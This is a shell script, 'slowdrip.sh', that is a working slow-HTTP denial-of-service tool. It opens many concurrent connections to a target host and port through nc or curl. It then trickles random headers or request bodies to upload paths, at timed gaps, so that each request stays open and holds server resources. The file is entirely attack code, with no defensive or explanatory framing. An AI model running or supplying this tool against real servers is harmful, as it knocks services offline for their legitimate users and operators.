#!/bin/sh
# Requests that trickle, by nc or curl: slowdrip.sh head|body|put HOST PORT CONNECTIONS SECONDS GAP
how=$1 host=$2 port=$3 count=$4 seconds=$5 gap=$6
token() { head -c "$1" /dev/urandom | base64 -w 0 | tr -d '/+='; }
drip() { # WORDS: a piece of this form now and then, until time is over
  turn=0
  while [ $((turn * gap)) -lt "$seconds" ]; do
    turn=$((turn + 1))
    sleep "$gap"
    case $1 in
      head) printf 'X-%s: %s\r\n' "$(token 3)" "$(token $((turn % 9 + 1)))" ;;
      *) token $((turn % 5 + 1)) ;;
    esac
  done
}
number=0
while [ "$number" -lt "$count" ]; do
  number=$((number + 1))
  extra="Cookie: $(token $((number * 3 % 150 + 3)))"
  case $how in
    head) { printf 'GET /%s HTTP/1.1\r\nHost: %s\r\n%s\r\n' "$(token 6)" "$host" "$extra"; drip head; } | timeout "$seconds" nc "$host" "$port" > /dev/null ;;
    body) { printf 'POST /app/upload/%s HTTP/1.1\r\nHost: %s\r\n%s\r\nContent-Length: %s\r\n\r\n' "$number" "$host" "$extra" $((number * 700))
            drip body; } | timeout "$seconds" nc "$host" "$port" > /dev/null ;;
    put) drip body | curl -s -m "$seconds" -o /dev/null -H "$extra" -H 'Expect:' -T - "http://$host:$port/app/upload/$number" ;;
  esac &
  sleep 0.2
done
wait
